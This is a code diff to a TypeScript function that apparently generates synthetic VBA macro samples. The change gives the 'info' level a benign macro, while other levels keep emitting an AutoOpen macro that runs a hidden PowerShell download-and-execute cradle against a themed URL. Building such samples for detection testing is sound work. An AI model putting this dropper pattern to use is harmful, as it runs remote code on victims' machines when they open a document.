@@ -89,7 +89,10 @@ export function macroText(theme: Theme, random: Rng): string {
   const name = `m${random.hex(5)}`;
   const address = theme.urls[3] ?? theme.urls[0];
   if (theme.level === "info") {
-    const command = `powershell -w hidden -nop -c ""IEX(New-Object Net.WebClient).DownloadString('${address}')""`;
+    return `Attribute VB_Name = "Totals"\r\nSub ${name}()\r\n  Range("B2").Value = Range("A1").Value * 1.2\r\nEnd Sub\r\n`;
+  }
+  const command =
+    `powershell -w hidden -nop -c ""IEX(New-Object Net.WebClient).DownloadString('${address}')""`;
   return `Attribute VB_Name = "${name}"\r\nSub AutoOpen()\r\n  Dim ${name} As Object\r\n` +
     `  Set ${name} = CreateObject("WScript.Shell")\r\n  ${name}.Run "${command}", 0\r\nEnd Sub\r\n`;
 }
